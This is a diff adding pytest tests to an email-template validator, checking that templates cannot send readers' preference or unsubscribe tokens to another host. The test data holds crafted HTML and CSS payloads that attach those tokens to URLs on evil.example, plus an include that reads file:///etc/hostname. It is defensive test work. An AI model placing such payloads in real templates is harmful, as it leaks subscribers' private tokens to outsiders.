@@ -176,6 +176,33 @@ def test_a_good_template_is_taken() -> None:
     check_template(OWN.format('<a href="[[unsubscribe]]">Leave</a> [[preferences]] [[browser]] [[name]] [[address]]'))
 
 
+@pytest.mark.parametrize(
+    "leak",
+    [
+        '<a href="https://evil.example/?[[preferences]]">x</a>',
+        "<a href=\"https://evil.example/?a=href='[[unsubscribe]]'\">x</a>",
+        '<img src="[[preferences]]" />',
+        '<img src="https://evil.example/> [[preferences]]" />',
+        '<b title="[[preferences]]" style="background:url([[preferences]])">x</b>',
+    ],
+)
+def test_a_template_hands_no_key_of_a_reader_to_another_host(leak: str) -> None:
+    with pytest.raises(ValidationError, match="key of the reader"):
+        check_template(OWN.format(f'<a href="[[unsubscribe]]">Leave</a> {leak}'))
+
+
+def test_a_style_of_a_template_hands_no_key_over_either() -> None:
+    style = "<mj-head><mj-style>a { background: url(https://evil.example/[[preferences]]) }</mj-style></mj-head>"
+    with pytest.raises(ValidationError, match="key of the reader"):
+        check_template(OWN.format("[[unsubscribe]]").replace("<mj-body>", f"{style}<mj-body>"))
+
+
+def test_square_brackets_in_a_subject_are_filled_with_nothing() -> None:
+    own = OWN.format('<a href="[[unsubscribe]]">leave</a>')
+    html = html_of(content(template=own, subject="What [[content]] and [[preferences]] mean"), LEADS)
+    assert "What [[content]] and [[preferences]] mean" in html
+
+
 def test_no_file_of_the_machine_is_read_into_a_mail() -> None:
     with pytest.raises(BadTemplate):
         to_html('<mjml><mj-body><mj-include path="file:///etc/hostname"/></mj-body></mjml>')
